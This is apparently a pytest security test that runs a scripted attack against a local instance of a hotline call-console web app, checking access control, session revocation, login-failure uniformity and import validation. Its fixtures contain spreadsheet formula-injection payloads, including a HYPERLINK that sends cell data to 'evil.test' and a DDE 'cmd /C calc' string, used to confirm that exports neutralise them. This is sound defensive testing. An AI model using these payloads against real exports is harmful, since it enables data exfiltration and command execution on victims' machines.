"""A scripted attack on the console (issue 19, "Show it works"), against `hotline web` in
its own process on the console city, as an unauthenticated client and as a staff user
(unit S2, numbers masked), on SQLite and PostgreSQL:

- no full number of another unit's caller is recovered: not by prefix or digit probing,
  sort or filter parameters, counts, pages, exports, JSON errors or the live stream
  (nor the staff user's own callers' numbers: the role sees them masked);
- no session lives on after logout or disabling: not a copied cookie, not a recording
  link signed for it, not an open live stream;
- the console still answers after an import that tries to loop the department tree;
- no exported file, CSV or XLSX, holds a formula, though the import wrote formulas
  into a unit's name, peer group and a ticket's category;
- a failed login says the same (status and body) for an unknown name, a disabled
  account and a wrong password.

Bounded in time: the whole run takes well under 30 s.
"""

from __future__ import annotations

import csv
import io
import re
import threading
import time
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy.orm import Session, sessionmaker

from core.config import HotlineConfig, load_config
from dashboard.auth import hash_password
from dashboard.users import add_user, disable, user_by_name
from db.session import make_engine, make_session_factory, unit_of_work
from tests.support.config import free_port, write_config
from tests.support.console_city import CALLERS, CSRF, PASSWORD, ConsoleCity, build_console_city
from tests.support.web_process import hotline_process

TOKEN = "attack-run-import-token-0123456789"
IMPORTED_CALLER = "13655556666"
FORMULAS = {
    "name": '=HYPERLINK("http://evil.test/?"&A1,"点此查看")',
    "peer_group": "-2+3",
    "category": "@SUM(1+1)*cmd|' /C calc'!A0",
}
REPORTS = ("three-rates", "ranking", "snail-seat", "overdue")


@dataclass
class Target:
    base: str
    config: HotlineConfig
    city: ConsoleCity
    sessions: sessionmaker[Session]


@pytest.fixture
def target(migrated_url: str, tmp_path: Path) -> Iterator[Target]:
    path = write_config(
        tmp_path / "cfg",
        database={"url": migrated_url},
        paths={
            "state_dir": str(tmp_path / "var"),
            "recordings_dir": str(tmp_path / "rec"),
            "cache_dir": str(tmp_path / "cache"),
        },
        asterisk={"ami": {"port": free_port(), "connect_timeout": 0.5}},  # no Asterisk here
        web={"port": free_port(), "live_recheck_seconds": 1, "request_seconds": 5},
    )
    config = load_config(path)
    engine = make_engine(migrated_url)
    sessions = make_session_factory(engine)
    city = build_console_city(sessions, config)
    with unit_of_work(sessions) as session:
        gone = add_user(session, "gone", hash_password(PASSWORD), "supervisor", None)
        disable(session, gone)
    try:
        with hotline_process("web", path, config.web.port, env={"HOTLINE_IMPORT_TOKEN": TOKEN}):
            yield Target(f"http://127.0.0.1:{config.web.port}", config, city, sessions)
    finally:
        engine.dispose()


# -- helpers ----------------------------------------------------------------------------
def _client(target: Target) -> httpx.Client:
    return httpx.Client(base_url=target.base, timeout=60, follow_redirects=False)


def _login(client: httpx.Client, username: str, password: str = PASSWORD) -> httpx.Response:
    token = CSRF.search(client.get("/login").text)
    assert token
    return client.post(
        "/login", data={"username": username, "password": password, "csrf": token[1]}
    )


def _csrf(client: httpx.Client, path: str = "/rates") -> str:
    found = CSRF.search(client.get(path).text)
    assert found
    return found[1]


def _text(response: httpx.Response) -> str:
    """Everything a response tells: headers, body, and the parts of an XLSX."""
    body = response.content
    if body[:2] == b"PK":
        with zipfile.ZipFile(io.BytesIO(body)) as book:
            body = b"".join(book.read(name) for name in book.namelist())
    return str(dict(response.headers)) + body.decode("utf-8", "replace")


def _no_formula(response: httpx.Response, where: str) -> None:
    """A CSV cell starting with = + - @ TAB CR is a number or nothing; an XLSX has no <f>."""
    if response.content[:2] == b"PK":
        with zipfile.ZipFile(io.BytesIO(response.content)) as book:
            for name in book.namelist():
                if name.startswith("xl/worksheets/"):
                    xml = book.read(name)
                    assert b"<f>" not in xml and b"<f " not in xml, (where, name)
        book = load_workbook(io.BytesIO(response.content))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (where, cell.coordinate, cell.value)
        return
    for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n"):
                try:
                    float(cell)
                except ValueError:
                    raise AssertionError(f"{where}: a formula cell {cell!r}") from None


class Stream:
    """The live feed read in a thread, line by line, until it ends."""

    def __init__(self, target: Target, cookies: httpx.Cookies) -> None:
        self.lines: list[str] = []
        self.status = 0
        self.ended = threading.Event()
        self._thread = threading.Thread(target=self._read, args=(target, cookies), daemon=True)
        self._thread.start()

    def _read(self, target: Target, cookies: httpx.Cookies) -> None:
        try:
            with (
                httpx.Client(base_url=target.base, cookies=cookies, timeout=20) as client,
                client.stream("GET", "/live/events") as response,
            ):
                self.status = response.status_code
                for line in response.iter_lines():
                    self.lines.append(line)
        except httpx.HTTPError as exc:
            self.lines.append(f"error {exc!r}")
        finally:
            self.ended.set()

    def first_event(self, seconds: float = 5) -> str:
        deadline = time.monotonic() + seconds
        while not any(line.startswith("data:") for line in self.lines):
            assert time.monotonic() < deadline and not self.ended.is_set(), self.lines
            time.sleep(0.05)
        return "\n".join(self.lines)


def _secrets(city: ConsoleCity) -> list[str]:
    """What a staff user of S2 must never see: every full caller number (S2's own are
    masked for the role), and other units' masked numbers and ticket numbers."""
    others = [CALLERS["S1"], CALLERS["V1"]]
    return [
        *CALLERS.values(),
        IMPORTED_CALLER,
        "13600002222",  # the call with no ticket: no unit's
        *(n[:3] + "****" + n[-4:] for n in others),
        city.tickets["S1"],
        city.tickets["V1"],
    ]


def _assert_told_nothing(response: httpx.Response, secrets: list[str], where: str) -> None:
    # the search form shows back the number the attacker typed: one they knew already
    text = re.sub(r'name="caller" id="caller" value="[^"]*"', "", _text(response))
    for secret in secrets:
        assert secret not in text, (where, secret)


# -- the run ----------------------------------------------------------------------------
def test_an_attack_run_recovers_nothing_and_leaves_the_console_answering(target: Target) -> None:
    city, secrets = target.city, _secrets(target.city)
    _unauthenticated(target, secrets)
    _import_formulas_and_a_loop(target)
    _staff_probe_everything(target, secrets)
    _exports_hold_no_formula(target)
    _logout_and_disabling_end_everything(target)
    _the_console_still_answers(target)
    assert city.calls["S1"] != city.calls["S2"]


def _unauthenticated(target: Target, secrets: list[str]) -> None:
    city = target.city
    paths = [
        "/", "/calls", f"/calls?caller={CALLERS['S1']}", f"/calls/{city.calls['S1']}",
        f"/tickets/{city.tickets['S1']}", "/rates", "/deadlines", "/robot", "/live",
        "/live/events", "/admin/audit", "/admin/users", "/media/x", "/rates/trend/S1",
        *(f"/rates/export/{r}.{f}" for r in REPORTS for f in ("csv", "xlsx")),
    ]  # fmt: skip
    with _client(target) as client:
        for path in paths:
            plain = client.get(path)
            assert plain.status_code == 401, (path, plain.status_code)
            page = client.get(path, headers={"accept": "text/html"})
            assert page.status_code in (303, 401) and "/login" in page.headers.get(
                "location", "/login"
            )
            _assert_told_nothing(plain, secrets, path)
        for header in ({}, {"Authorization": "Bearer wrong"}, {"Authorization": TOKEN}):
            assert client.post("/api/import", json=[], headers=header).status_code == 401
        rebound = client.get("/login", headers={"host": "attacker.example"})
        assert rebound.status_code == 400 and "set-cookie" not in rebound.headers
        # one answer to every failure: unknown name, disabled account, wrong password
        answers = set()
        for name, password in (("nobody", PASSWORD), ("gone", PASSWORD), ("boss", "wrong pw!")):
            failed = _login(client, name, password)
            body = re.sub(r'name="csrf" value="[^"]*"', "", failed.text)
            answers.add((failed.status_code, body, "hotline_session" in str(failed.headers)))
        assert len(answers) == 1, "a login failure tells which names exist"
        assert next(iter(answers))[0] == 401


def _import_formulas_and_a_loop(target: Target) -> None:
    """Through the platform's API: a unit under S2 and a ticket of it with formulas in
    their text, then a batch that would loop the tree (refused, named)."""
    auth = {"Authorization": f"Bearer {TOKEN}"}
    body = {
        "departments": [
            {
                "code": "X1",
                "name": FORMULAS["name"],
                "level": 5,
                "parent_code": "S2",
                "peer_group": FORMULAS["peer_group"],
            }
        ],
        "tickets": [
            {
                "external_id": "ATTACK-1",
                "caller_number": IMPORTED_CALLER,
                "accepted_at": "2026-01-05 09:00",
                "category": FORMULAS["category"],
                "department_code": "X1",
                "status": "dispatched",
            }
        ],
    }
    loop = {
        "departments": [
            {"code": "D1", "name": "unit D1", "level": 5, "parent_code": "S1"},
            {"code": "S2", "name": "unit S2", "level": 4, "parent_code": "S2"},
        ]
    }
    with _client(target) as client:
        done = client.post("/api/import", json=body, headers=auth).json()
        assert done["errors"] == [] and done["counts"]["ticket"]["created"] == 1
        refused = client.post("/api/import", json=loop, headers=auth)
        assert refused.status_code == 200
        assert [e["where"] for e in refused.json()["errors"]] == [
            "departments[0]",
            "departments[1]",
        ]
        assert "unit D1" not in refused.text  # named by place and field, never echoed


def _staff_probe_everything(target: Target, secrets: list[str]) -> None:
    city, s1_number = target.city, CALLERS["S1"]
    month = time.strftime("%Y-%m")
    with _client(target) as staff:
        assert _login(staff, "s2").status_code == 303
        seen: dict[str, httpx.Response] = {}

        def get(path: str, **params: str) -> httpx.Response:
            response = staff.get(path, params=params)
            seen[f"{path}?{params}"] = response
            return response

        # another unit's records: refused, whatever the door
        for path in (f"/calls/{city.calls['S1']}", f"/tickets/{city.tickets['S1']}",
                     f"/calls/{city.calls['V1']}", "/rates/trend/S1", "/rates/trend/D1"):  # fmt: skip
            assert get(path).status_code == 403, path
        assert get("/rates", unit="S1").status_code == 403
        # digit by digit: the last digit of S1's caller, all ten guesses answer alike
        answers = set()
        for digit in "0123456789":
            found = get("/calls", caller=s1_number[:-1] + digit)
            assert found.status_code in (200, 429)
            hits = re.findall(r'href="/calls/(\d+)" class="open-call"', found.text)
            answers.add((found.status_code == 200, tuple(hits)))
        assert answers <= {(True, ()), (False, ())}, answers
        # prefixes, sort and filter parameters, page cursors
        for params in ({"caller": s1_number[:3]}, {"caller": s1_number[:7]},
                       {"ticket": city.tickets["S1"][:6]}, {"sort": "caller"},
                       {"order": "caller_number"}, {"line": "12345"},
                       {"after": "99999999999999999.1"}, {"direction": "inbound"}):  # fmt: skip
            listed = get("/calls", **params)
            assert listed.status_code in (200, 400, 429)
            ids = set(re.findall(r'href="/calls/(\d+)"', listed.text))
            assert ids <= {str(city.calls["S2"]), str(city.survey_call)}, (params, ids)
        # counts and lists: pages, deadline lists, the robot, live
        for path, params in (("/rates", {}), ("/rates", {"month": month}),
                             ("/deadlines", {"list": "overdue"}), ("/deadlines", {"list": "warn"}),
                             ("/deadlines", {"list": "escalate"}), ("/robot", {}),
                             ("/live", {}), (f"/calls/{city.calls['S2']}", {}),
                             (f"/tickets/{city.tickets['S2']}", {})):  # fmt: skip
            assert get(path, **params).status_code == 200, path
        # exports
        for which in REPORTS:
            for fmt in ("csv", "xlsx"):
                exported = get(f"/rates/export/{which}.{fmt}", month=month)
                assert exported.status_code == 200, (which, fmt)
                _no_formula(exported, f"staff {which}.{fmt}")
        # JSON answers (errors of the API and of validation) and the recording itself
        for path in ("/calls/abc", "/calls/0", f"/media/{'A' * 500}", "/deadlines?page=-1"):
            get(path)
        assert staff.post("/api/import", json=[]).status_code == 401
        # the live stream
        stream = Stream(target, staff.cookies)
        event = stream.first_event()
        assert stream.status == 200
        for secret in secrets:
            assert secret not in event, secret
        for where, response in seen.items():
            _assert_told_nothing(response, secrets, where)
            assert response.status_code < 500, where
        assert staff.post("/logout", data={"csrf": _csrf(staff)}).status_code == 303
        assert stream.ended.wait(5)


def _exports_hold_no_formula(target: Target) -> None:
    month = time.strftime("%Y-%m")
    with _client(target) as boss:
        assert _login(boss, "boss").status_code == 303
        texts = []
        for which in REPORTS:
            for fmt in ("csv", "xlsx"):
                exported = boss.get(f"/rates/export/{which}.{fmt}", params={"month": month})
                assert exported.status_code == 200
                _no_formula(exported, f"supervisor {which}.{fmt}")
                texts.append(_text(exported))
        assert any("HYPERLINK" in text for text in texts)  # the formulas were there, as text


def _playing(client: httpx.Client, call_id: int) -> str:
    """The page of a call, and its whole-call player link (pieces: staff)."""
    page = client.get(f"/calls/{call_id}").text
    link = page.split('id="audio-call" src="')[1].split('"')[0]
    piece = client.get(link, headers={"Range": "bytes=0-"})
    assert piece.status_code == 206 and piece.content[:4] == b"RIFF"
    return link


def _dead(client: httpx.Client, link: str, stream: Stream, why: str) -> None:
    assert client.get("/rates").status_code == 401, why
    page = client.get("/rates", headers={"accept": "text/html"})
    assert page.status_code == 303 and page.headers["location"].startswith("/login"), why
    played = client.get(link, headers={"Range": "bytes=0-"})
    assert played.status_code in (401, 403) and played.content[:4] != b"RIFF", why
    assert stream.ended.wait(5), f"{why}: the live stream is still open"
    assert any(line.startswith("event: end") for line in stream.lines), (why, stream.lines)


def _logout_and_disabling_end_everything(target: Target) -> None:
    city = target.city
    with _client(target) as staff, _client(target) as thief:
        assert _login(staff, "s2").status_code == 303
        link = _playing(staff, city.calls["S2"])
        thief.cookies = httpx.Cookies(staff.cookies)  # a copied cookie
        assert thief.get("/rates").status_code == 200
        stream = Stream(target, thief.cookies)
        stream.first_event()
        out = staff.post("/logout", data={"csrf": _csrf(staff)})
        assert out.status_code == 303
        _dead(thief, link, stream, "after logout")
    with _client(target) as staff:
        assert _login(staff, "s1").status_code == 303
        link = _playing(staff, city.calls["S1"])
        stream = Stream(target, staff.cookies)
        stream.first_event()
        with unit_of_work(target.sessions) as session:
            user = user_by_name(session, "s1")
            assert user is not None
            disable(session, user)
        _dead(staff, link, stream, "after disabling")
        # and the disabled account's login says what any failure says
        failed = _login(staff, "s1")
        assert failed.status_code == 401 and "hotline_session" not in str(failed.headers)


def _the_console_still_answers(target: Target) -> None:
    with _client(target) as boss:
        assert boss.get("/login").status_code == 200
        assert _login(boss, "boss").status_code == 303
        for path in ("/rates", "/rates?unit=D1", "/calls", "/deadlines", "/robot"):
            assert boss.get(path).status_code == 200, path
